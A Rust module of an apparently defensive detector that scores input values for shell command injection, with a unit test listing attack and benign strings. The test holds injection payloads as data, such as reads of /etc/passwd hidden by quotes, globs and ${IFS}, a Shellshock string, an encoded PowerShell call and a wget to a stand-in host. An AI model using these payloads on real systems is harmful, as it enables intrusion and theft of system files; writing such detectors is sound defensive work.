//! Command injection: the value is read as a shell would (POSIX.1-2017, Shell Command Language §2; `cmd.exe`, PowerShell).
//!
//! Words are cut at operators, quotes and escapes taken off, `${IFS}` is a blank, braces and globs are what they would
//! become. A command counts where one can stand: at the start, behind an operator, inside of a substitution.

mod lex;
mod names;

use std::ops::Range;
use std::sync::LazyLock;

use super::forms::Forms;
use super::{Sign, words};
use crate::detect::Kind;

/// The best sign of a decoded text in lower case.
pub(super) fn look(text: &[u8], kind: Kind) -> Option<Sign> {
    let mut best: Option<Sign> = None;
    let mut see = |rule: &'static str, score: u8, range: Range<usize>| {
        if best.as_ref().is_none_or(|best| best.score < score) {
            best = Some(Sign { rule, score, range });
        }
    };
    let agent = kind == Kind::Agent && names::is_product(text);
    let commands = lex::commands(text);
    chain(&commands, text, &mut see);
    for command in commands {
        // Paths begin like programs, and comments of a `User-Agent` (RFC 9110 §10.1.5) are parted by semicolons.
        let plain = matches!(command.lead, lex::Lead::Start) && (kind == Kind::Path || agent);
        if !(plain || agent && in_comment(text, command.range.start)) {
            command_score(&command, kind, &mut see);
        }
    }
    whole(text, &mut see);
    best
}

/// Whether a place stands in parentheses.
fn in_comment(text: &[u8], at: usize) -> bool {
    let before = &text[..at.min(text.len())];
    let count = |of: u8| memchr::memchr_iter(of, before).count();
    count(b'(') > count(b')') && words::find(before, b"$(").is_none()
}

/// Known commands in a row from which a list of words reads as a script.
const CHAIN_MIN: usize = 3;

/// `cd x; cd y; cat z`: commands and nothing else, parted by operators, most with something behind them.
fn chain(commands: &[lex::Command], text: &[u8], see: &mut dyn FnMut(&'static str, u8, Range<usize>)) {
    let known = |command: &&lex::Command| {
        command.words.first().is_some_and(|word| names::of(names::base(&word.text)).is_some())
            && !command.words.iter().any(|word| names::is_prose(&word.text))
    };
    let filled = commands.iter().filter(|command| command.words.len() > 1).count();
    if commands.len() >= CHAIN_MIN && commands.iter().filter(known).count() == commands.len() && filled >= 2 {
        see("chain", 66, 0..text.len());
    }
}

fn command_score(command: &lex::Command, kind: Kind, see: &mut dyn FnMut(&'static str, u8, Range<usize>)) {
    use lex::Lead;
    // `$x cat`: what is not set is nothing.
    let unset = command.words.iter().take_while(|word| word.text.starts_with(b"$")).count();
    let words = if command.lead == Lead::Start { &command.words[..] } else { &command.words[unset..] };
    let Some(first) = words.first() else { return };
    let name = first.text.as_slice();
    let base = names::base(name);
    let path = base.len() < name.len();
    // A program's path lies where programs do; any other path is only a path.
    let base = if path && !names::in_bin(name) { name } else { base };
    let class = names::of(base);
    let glob = first.glob && names::is_glob(name);
    let range = command.range.clone();
    let rest = &words[1..];
    let argument = rest.iter().any(|word| word.is_argument());
    let plain_words = rest.iter().filter(|word| word.is_plain()).count();
    let leads = !matches!(command.lead, Lead::Start);
    let mut score: u8 = match (class, command.lead) {
        (_, Lead::Start) if glob => 70,
        (_, _) if glob => 86,
        (Some(names::Class::Clear), Lead::Substitution) => 92,
        (Some(names::Class::Word), Lead::Substitution) => 84,
        (Some(names::Class::Clear), Lead::Operator) => 86,
        (_, Lead::Inside) => 0,
        (Some(names::Class::Word), Lead::Operator) if argument => 78,
        (Some(names::Class::Word), Lead::Operator) => {
            if plain_words > 0 {
                45
            } else if command.ended {
                78
            } else {
                62
            }
        }
        (Some(_), Lead::Ampersand) => {
            if argument || path {
                78
            } else if class == Some(names::Class::Clear) {
                70
            } else {
                40
            }
        }
        (Some(names::Class::Clear), Lead::Start) if path => 78,
        (Some(names::Class::Clear), Lead::Start) => {
            if argument {
                76
            } else if command.ended {
                74
            } else {
                42
            }
        }
        (Some(names::Class::Word), Lead::Start) if path && names::in_bin(name) => 80,
        (Some(names::Class::Word), Lead::Start) => {
            if argument {
                66
            } else if command.ended {
                // A word and a semicolon: prose has them too.
                45
            } else {
                15
            }
        }
        (None, _) if path && names::in_bin(name) && name.len() > base.len() + 1 => {
            if leads {
                86
            } else {
                70
            }
        }
        (None, Lead::Substitution) if !name.is_empty() => 45,
        (None, _) if names::is_cmdlet(name) => {
            if leads {
                84
            } else {
                72
            }
        }
        (None, Lead::Operator) if first.disguised && name.len() > 1 => 50,
        _ => 0,
    };
    if leads
        && (names::is_dot_command(name)
            || name == b"."
                && rest.first().is_some_and(|word| matches!(word.text.as_slice(), b"shell" | b"system")))
    {
        score = score.max(74);
    }
    if names::runs_others(base)
        && let Some(other) = rest.first().and_then(|word| names::of(names::base(&word.text)))
    {
        let clear = other == names::Class::Clear;
        score = score.max(if clear {
            74
        } else if rest.len() == 1 {
            62
        } else {
            40
        });
    }
    // Quotes inside of a word are only there to hide it.
    if first.disguised && class.is_some() {
        score = score.saturating_add(14).max(72);
    }
    if first.disguised && (path || glob) {
        score = score.max(78);
    }
    // `'id'` and nothing else: nobody quotes a value but who wants to leave a quote.
    if first.quoted && class.is_some() && rest.is_empty() && !leads && kind != Kind::Text {
        score = score.max(64);
    }
    if kind == Kind::Agent && !leads && class == Some(names::Class::Word) {
        score = score.saturating_sub(10);
    }
    // Many plain words behind it: a sentence.
    if plain_words >= 3 && !argument && class == Some(names::Class::Word) {
        score = score.saturating_sub(30);
    }
    // `apt is gated; …`
    if plain_words >= 2 && !argument && !leads && rest.iter().any(|word| names::is_prose(&word.text)) {
        score = score.saturating_sub(20);
    }
    // No browser and no library calls itself so.
    if kind == Kind::Agent && !leads && class == Some(names::Class::Clear) && !names::is_client(base) {
        score = score.max(64);
    }
    if rest.iter().any(|word| word.spaced_by_ifs) || first.spaced_by_ifs {
        score = score.saturating_add(20).max(80);
    }
    if score > 0 {
        see("command", score.min(98), range);
    }
}

/// Forms of the shell that need no command's name.
fn whole(text: &[u8], see: &mut dyn FnMut(&'static str, u8, Range<usize>)) {
    let find = |needle: &str| words::find(text, needle.as_bytes());
    // Functions in the environment (CVE-2014-6271), with whatever blanks.
    if let Some(at) = find("()")
        && text[at + 2..].trim_ascii_start().starts_with(b"{")
    {
        let body = text[at + 2..].trim_ascii_start();
        let colon = words::find(body, b":;").is_some() || words::find(body, b"|").is_some() || at == 0;
        see("function", if colon { 92 } else { 58 }, at..text.len());
    }
    // `f() { f & f; }; f`: a function that calls itself twice, and its call.
    if let Some(at) = find("()") {
        let start = text[..at]
            .iter()
            .rposition(|byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b':')))
            .map_or(0, |at| at + 1);
        let (name, body) = (&text[start..at], text[at + 2..].trim_ascii_start());
        if !name.is_empty()
            && body.starts_with(b"{")
            && body.iter().any(|byte| matches!(byte, b'&' | b'|'))
            && let Some(end) = memchr::memrchr(b'}', body)
            && let Some(rest) = body[end + 1..].trim_ascii().strip_prefix(b";")
            && rest.trim_ascii() == name
        {
            see("function", 88, start..text.len());
        }
    }
    expansion(text, see);
    static FORMS: LazyLock<Forms> = LazyLock::new(|| Forms::new(names::FORMS));
    FORMS.each(text, &mut |score, range| see("form", score, range));
    // `~+`, `~-`, `!!`, `!-1`: the shell's own expansions, where they are the whole value.
    let value = text.trim_ascii();
    let tilde = value.len() >= 2
        && value.len() <= 6
        && value[0] == b'~'
        && matches!(value[1], b'+' | b'-')
        && value[1..].iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'+' | b'-'));
    let history = value.len() >= 2
        && value[0] == b'!'
        && value.len() <= 12
        && value[1..].iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'!' | b'-'));
    if tilde || history {
        see("expansion", 64, 0..text.len());
    }
}

/// What a shell computes: `$((…))`, `$[1+1]`, `${x#y}`.
fn expansion(text: &[u8], see: &mut dyn FnMut(&'static str, u8, Range<usize>)) {
    for at in memchr::memchr_iter(b'$', text).take(16) {
        let rest = &text[at + 1..];
        let inside = |close: u8| rest.get(1..).and_then(|rest| Some(&rest[..memchr::memchr(close, rest)?]));
        let found = match rest.first() {
            Some(b'[') => inside(b']').is_some_and(|sum| {
                let digit = sum.iter().any(u8::is_ascii_digit);
                let sign = sum.iter().any(|byte| matches!(byte, b'+' | b'-' | b'*' | b'/' | b'%'));
                let only = sum.iter().all(|byte| {
                    byte.is_ascii_digit()
                        || matches!(byte, b'+' | b'-' | b'*' | b'/' | b'%' | b' ' | b'(' | b')' | b'$')
                });
                only && (sum.is_empty() || digit && sign)
            }),
            Some(b'{') => inside(b'}').is_some_and(|inside| {
                let name =
                    inside.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
                let rest = &inside[name..];
                name > 0
                    && (matches!(rest, [b'#' | b'%' | b'^', ..] | [b',', b',', ..])
                        || rest.starts_with(b"//") && rest.len() > 2)
            }),
            Some(b'(') => rest.starts_with(b"((") && words::find(rest, b"))").is_some(),
            _ => false,
        };
        if found {
            see("expansion", 66, at..text.len());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> u8 {
        look(text.to_ascii_lowercase().as_bytes(), Kind::Value).map_or(0, |sign| sign.score)
    }

    #[test]
    fn commands_score_where_they_can_stand() {
        let attacks = [
            "; id",
            "x | cat /etc/hosts",
            "`whoami`",
            "$(uname -a)",
            "a && wget http://a.example/x",
            "/bin/c'a't /etc/p*d",
            "cat${IFS}/etc/hosts",
            "c\\at /etc/hosts",
            "{cat,/etc/hosts}",
            "/???/c?t /???/p??s??",
            "() { :; }; echo x",
            "& ping -n 5 127.0.0.1 &",
            "%0a/usr/bin/id",
            "| powershell -enc aaaa",
            "ping -c 9 10.0.0.1",
            "\"; ls -la; \"",
        ];
        attacks.iter().for_each(|text| {
            let text = text.replace("%0a", "\n");
            assert!(of(&text) >= 60, "{text}: {}", of(&text));
        });
        let benign = [
            "cats & dogs",
            "time; money",
            "find me a home",
            "a | b",
            "sort by price",
            "salt & pepper",
            "Q&A",
            "the cat sat on the mat",
            "id",
            "who is it?",
            "at home; more later",
            "AT&T",
            "cut & paste",
            "rm 12, 3rd floor",
            "Johnson & Johnson; Co.",
        ];
        benign.iter().for_each(|text| assert!(of(text) < 60, "{text}: {}", of(text)));
    }
}
